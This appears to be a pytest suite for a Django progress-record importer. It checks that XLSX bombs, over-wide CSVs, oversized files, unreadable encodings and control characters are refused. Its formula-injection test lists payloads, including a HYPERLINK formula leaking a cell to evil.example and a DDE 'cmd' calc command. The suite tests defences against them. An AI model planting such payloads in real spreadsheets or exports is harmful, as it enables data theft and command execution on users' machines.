"""Bounded, exact imports on every path (manage.py import_progress, the web upload, POST /api/v1/progress/import).

XLSX bombs and over-wide CSVs are refused naming the limit without building the sheet, one size limit applies
everywhere, CSV exports neutralise formulas and re-import byte-identical, text in an encoding we cannot read
confidently is refused instead of stored as mojibake, and control characters are refused naming row and column.
"""

import csv
import io
import re
import tracemalloc
import zipfile
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from openpyxl import Workbook

from chiiki.core.tabular import csv_bytes
from chiiki.progress.importer import IMPORT_HEADER

from .conftest import HEADER, csv_file, run_import_command, xlsx_file
from .test_api import bearer

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
SECTORS = ["education", "health", "work", "disaster", "agriculture", "business", "tourism", "public_private"]


def command(tmp_path, data: bytes, name="progress.csv", *args) -> tuple[bool, str]:
    ok, out, err = run_import_command(tmp_path, data, name, *args)
    return ok, out if ok else err


def api_import(user, data: bytes, name="progress.csv", **fields):
    from django.test import Client

    return Client().post("/api/v1/progress/import", {"file": SimpleUploadedFile(name, data), **fields},
                         **bearer(user))


def web_import(client, data: bytes, name="progress.csv") -> str:
    """Upload on /progress/import/ and return the page that follows (the preview, or the form with its error)."""
    response = client.post("/progress/import/", {"file": SimpleUploadedFile(name, data)})
    if response.status_code == 302:
        response = client.get(response["Location"])
    assert response.status_code in (200, 400)  # the preview, or the form with its error
    return response.content.decode()


def with_peak(run):
    """(result, peak MB of Python allocations while run() ran) — a bound on memory, not a timing."""
    tracemalloc.start()
    try:
        result = run()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return result, peak / MB


def notes():
    from chiiki.progress.models import ProgressRecord

    return {(r.municipality_id, r.sector_id, r.fiscal_year): r.note for r in ProgressRecord.objects.all()}


# ---- 1. XLSX bombs -------------------------------------------------------------------------------------------

def xlsx_bomb(far_cell: str, dimension: str) -> bytes:
    """A valid progress file plus one value at far_cell. dimension: "declared" keeps the <dimension> openpyxl
    writes (it covers far_cell), "lying" claims A1:F2, "missing" has none — the reader must not trust it."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER.split(","))
    sheet.append(["131016", "disaster", 2026, "implemented", "", ""])
    sheet[far_cell] = "x"
    buffer = io.BytesIO()
    workbook.save(buffer)
    if dimension == "declared":
        return buffer.getvalue()
    replacement = b'<dimension ref="A1:F2"/>' if dimension == "lying" else b""
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename.startswith("xl/worksheets/"):
                content, count = re.subn(rb"<dimension [^>]*/>", replacement, content)
                assert count == 1
            target.writestr(info.filename, content)
    return out.getvalue()


@pytest.mark.parametrize(("far_cell", "dimension", "message"), [
    ("XFD20000", "declared", "シートの範囲（A1:XFD20000）が読み込める大きさ（200,000行・200列）を超えています"),
    ("XFD20000", "lying", "20000行目: 16,384列目（XFD列）に値があります。読み込めるのは200列目までです"),
    ("XFD20000", "missing", "20000行目: 16,384列目（XFD列）に値があります。読み込めるのは200列目までです"),
    ("A1048576", "declared", "シートの範囲（A1:F1048576）が読み込める大きさ（200,000行・200列）を超えています"),
    ("A1048576", "lying", "1048576行目に値があります。読み込めるのは200,000行目までです"),
    ("A1048576", "missing", "1048576行目に値があります。読み込めるのは200,000行目までです"),
], ids=lambda value: value if value.isascii() else "")
def test_xlsx_bomb_is_refused_naming_the_limit_in_bounded_memory(tmp_path, register, records, far_cell,
                                                                 dimension, message):
    data = xlsx_bomb(far_cell, dimension)
    assert len(data) < 8 * 1024
    (ok, output), peak = with_peak(lambda: command(tmp_path, data, "bomb.xlsx"))
    assert not ok and message in output, output
    # Reading a sheet padded to its extent took 2.4 GB for XFD20000; the whole refusal stays far below 20 MB.
    assert peak < 20, f"peak {peak:.1f} MB"
    assert records() == {}


def test_xlsx_bomb_via_web_upload_and_api(client_for, users, records):
    data = xlsx_bomb("XFD20000", "missing")
    html = web_import(client_for(users["admin"]), data, "bomb.xlsx")
    assert "16,384列目（XFD列）に値があります。読み込めるのは200列目までです" in html
    response = api_import(users["admin"], data, "bomb.xlsx")
    assert response.status_code == 422
    assert "読み込めるのは200列目までです" in response.json()["errors"][0]["message"]
    assert records() == {}


def test_row_and_column_limits_come_from_settings(tmp_path, register, records, settings):
    settings.IMPORT_MAX_ROWS, settings.IMPORT_MAX_COLUMNS = 4, 6
    lines = [f"131016,{sector},2026,implemented,," for sector in SECTORS[:4]]
    ok, output = command(tmp_path, csv_file(lines))
    assert not ok and "5行目に値があります。読み込めるのは4行目までです" in output
    ok, output = command(tmp_path, xlsx_file([line.split(",") for line in lines]), "p.xlsx")
    assert not ok and "シートの範囲（A1:F5）が読み込める大きさ（4行・6列）を超えています" in output
    ok, output = command(tmp_path, csv_file([lines[0] + ",余分な値"]))
    assert not ok and "2行目: 7列目に値があります。読み込めるのは6列目までです" in output
    assert records() == {}
    ok, output = command(tmp_path, csv_file(lines[:3]))
    assert ok, output
    assert len(records()) == 3


# ---- 2. over-wide CSV ----------------------------------------------------------------------------------------

def test_one_line_csv_with_700k_columns_is_refused_with_the_column_limit(tmp_path, register, users, records):
    header_line = ("a," * 700_000).encode()  # the duplicate check used to count each of these in all the others
    (ok, output), peak = with_peak(lambda: command(tmp_path, header_line))
    assert not ok and "1行目: 201列目に値があります。読み込めるのは200列目までです（列が多すぎます）" in output
    assert peak < 20, f"peak {peak:.1f} MB"
    wide_row = csv_file([",".join(["131016", "disaster", "2026", "implemented", "", ""] + ["x"] * 700_000)])
    response = api_import(users["admin"], wide_row)
    assert response.status_code == 422
    assert response.json()["errors"][0]["message"].startswith("2行目: 201列目に値があります。読み込めるのは200列目まで")
    assert records() == {}


def test_trailing_empty_cells_beyond_the_limit_are_read(tmp_path, register, records):
    """Excel writes empty cells up to a stale used range; they are dropped, not refused."""
    ok, output = command(tmp_path, csv_file(["131016,disaster,2026,implemented,,," + "," * 1000]))
    assert ok, output
    assert records() == {("131016", "disaster", 2026): ("implemented", 1)}


# ---- 3. one size limit -----------------------------------------------------------------------------------------

def test_api_refuses_a_file_over_the_default_size_limit(users, records):
    data = csv_file(["131016,disaster,2026,implemented,,"])
    data += b"\n" * (20 * MB + 1 - len(data))  # a valid file, one byte over 20 MB
    response = api_import(users["admin"], data)
    assert response.status_code == 422
    assert response.json()["errors"] == [{"row": 0, "column": "", "message": "ファイルが大きすぎます（20MBまで）",
                                          "value": ""}]
    assert records() == {}


def test_command_refuses_a_30mb_file(tmp_path, register, records):
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:
        handle.write(csv_file(["131016,disaster,2026,implemented,,"]))
        handle.truncate(30 * MB)
    out, err = StringIO(), StringIO()
    with pytest.raises(CommandError):
        call_command("import_progress", str(path), stdout=out, stderr=err)
    assert "ファイル: ファイルが大きすぎます（20MBまで）" in err.getvalue()
    assert records() == {}


def test_one_size_limit_on_every_path(tmp_path, client_for, users, records, settings):
    settings.IMPORT_MAX_BYTES = 2048
    big = csv_file(["131016,disaster,2026,implemented,同じ内容の行,"] * 60)  # valid, only too large
    assert len(big) > 2048
    message = "ファイルが大きすぎます（2KBまで）"
    ok, output = command(tmp_path, big)
    assert not ok and message in output
    web = client_for(users["admin"])
    page = web_import(web, big)
    assert message in page and "2KBまで。" in page  # the form's error and its help text name the same limit
    response = api_import(users["admin"], big)
    assert response.status_code == 422 and response.json()["errors"][0]["message"] == message
    assert records() == {}
    small = csv_file(["131016,disaster,2026,implemented,同じ内容の行,"])
    assert api_import(users["admin"], small, dry_run="true").json()["created"] == 1
    assert "新規 <strong>1</strong>件" in web_import(web, small)
    assert command(tmp_path, small)[0]


# ---- 4. CSV formula injection ------------------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1+1",
    "\r=1+1", "-", "-5℃", "'=1+1", "''@x", "'quoted text", "普通の備考（-5℃）",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_neutralises_formulas_and_reimports_byte_identical(client_for, users, records, history_count):
    cells = [(code, sector) for code in ("131016", "132012") for sector in SECTORS][:len(PAYLOADS)]
    seed = csv_bytes(IMPORT_HEADER, [[code, sector, 2026, "implemented", note, ""]
                                     for (code, sector), note in zip(cells, PAYLOADS, strict=True)])
    response = api_import(users["admin"], seed, "seed.csv")
    assert response.status_code == 200 and response.json()["created"] == len(PAYLOADS), response.content
    # Notes are stored as every path stores them (progress.validation.clean_note strips surrounding blanks), so
    # a leading tab or CR never reaches the database; what is stored must come back byte-identical.
    expected = {(code, sector, 2026): note.strip() for (code, sector), note in zip(cells, PAYLOADS, strict=True)}
    assert notes() == expected
    before, histories = records(), history_count()

    export = client_for(None).get("/progress/records/?fiscal_year=2026&format=csv")
    assert export.status_code == 200
    table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"), newline="")))
    written = [cell for row in table for cell in row]
    assert not [cell for cell in written if cell.startswith(FORMULA_START)]  # nothing a spreadsheet would run
    for payload in set(expected.values()):
        escaped = "'" + payload if payload.lstrip("'").startswith(FORMULA_START) else payload
        assert escaped in written, payload
    assert all(row[3] == "2026" for row in table[1:])  # numbers are written as numbers, never prefixed

    admin = client_for(users["admin"])
    preview = web_import(admin, export.content, "export.csv")
    assert f"新規 <strong>0</strong>件・更新 <strong>0</strong>件・変更なし {len(table) - 1}件" in preview
    result = api_import(users["admin"], export.content, "export.csv")
    assert result.status_code == 200 and (result.json()["created"], result.json()["updated"]) == (0, 0)
    assert notes() == expected and records() == before and history_count() == histories


def test_xlsx_import_keeps_a_leading_quote(users, records):
    """Only CSV reverses its own escaping: in XLSX a leading ' is the cell's text."""
    data = xlsx_file([["131016", "disaster", 2026, "implemented", "'=1+1", ""],
                      ["132012", "disaster", 2026, "implemented", "'-", ""]])
    response = api_import(users["admin"], data, "p.xlsx")
    assert response.status_code == 200, response.content
    assert notes() == {("131016", "disaster", 2026): "'=1+1", ("132012", "disaster", 2026): "'-"}


# ---- 5. encodings ------------------------------------------------------------------------------------------------

def test_latin1_file_is_refused_naming_the_candidates(tmp_path, register, users, records):
    data = "code,sector,year,stage,note\r\n131016,disaster,2026,implemented,café crème\r\n".encode("latin-1")
    ok, output = command(tmp_path, data)
    assert not ok and "ファイルの文字コードを判別できません（推定される候補: " in output
    assert "UTF-8（BOM付き可）または Shift_JIS（CP932）で保存し直してください" in output
    response = api_import(users["admin"], data)
    assert response.status_code == 422
    assert response.json()["errors"][0]["message"].startswith("ファイルの文字コードを判別できません（推定される候補: ")
    assert records() == {}


def test_cp932_without_bom_with_a_few_kanji_is_still_read(tmp_path, register, records):
    ok, output = command(tmp_path, csv_file(["131016,防災,2026,implemented,,"], encoding="cp932"))
    assert ok, output
    assert records() == {("131016", "disaster", 2026): ("implemented", 1)}


# ---- 6. control characters -----------------------------------------------------------------------------------------

@pytest.mark.parametrize(("note", "named"), [
    ("前\x00後", "U+0000 NUL"), ("ベル\x07", "U+0007"), ("\x1b[31m赤", "U+001B ESC"), ("末尾\x1f", "U+001F"),
])
def test_control_characters_are_refused_naming_row_and_column(tmp_path, client_for, users, records, note, named):
    """Every cell that holds one is named, with the other rows' problems: the file is checked, never written."""
    data = csv_bytes(IMPORT_HEADER, [["131016", "disaster", 2026, "implemented", "普通", ""],
                                     ["132012", "disaster", 2026, "implemented", note, ""],
                                     ["132012", "nosuch", 2026, "implemented", "", ""],
                                     ["011002", "disaster", 2026, "implemented", f"二つ目{note}", ""]])
    message = f"制御文字（{named}）が含まれています"
    response = api_import(users["admin"], data)
    errors = response.json()["errors"]
    assert response.status_code == 422 and [(e["row"], e["column"]) for e in errors] == [
        (3, "備考"), (4, "分野"), (5, "備考")]
    assert errors[0]["message"].startswith(message) and errors[2]["message"].startswith(message)
    ok, output = command(tmp_path, data)
    assert not ok and f"3行目 列「備考」: {message}" in output and f"5行目 列「備考」: {message}" in output
    assert "4行目 列「分野」" in output
    page = web_import(client_for(users["admin"]), data)
    assert page.count(message) == 2 and '<td class="num">4</td><td>分野</td>' in page
    assert records() == {}


def test_a_control_character_only_in_a_row_read_as_blank_does_not_stop_the_import(users, records):
    data = csv_bytes(IMPORT_HEADER, [["131016", "disaster", 2026, "implemented", "", ""]]) + b"\x1f,\x1f\r\n"
    response = api_import(users["admin"], data)
    assert response.status_code == 200 and response.json()["committed"], response.json()
    assert records() == {("131016", "disaster", 2026): ("implemented", 1)}


def test_tab_and_line_breaks_inside_a_note_are_kept(users, records):
    data = csv_bytes(IMPORT_HEADER, [["131016", "disaster", 2026, "implemented", "一行目\r\n二行目\tタブ", ""]])
    assert api_import(users["admin"], data).status_code == 200
    assert notes() == {("131016", "disaster", 2026): "一行目\r\n二行目\tタブ"}
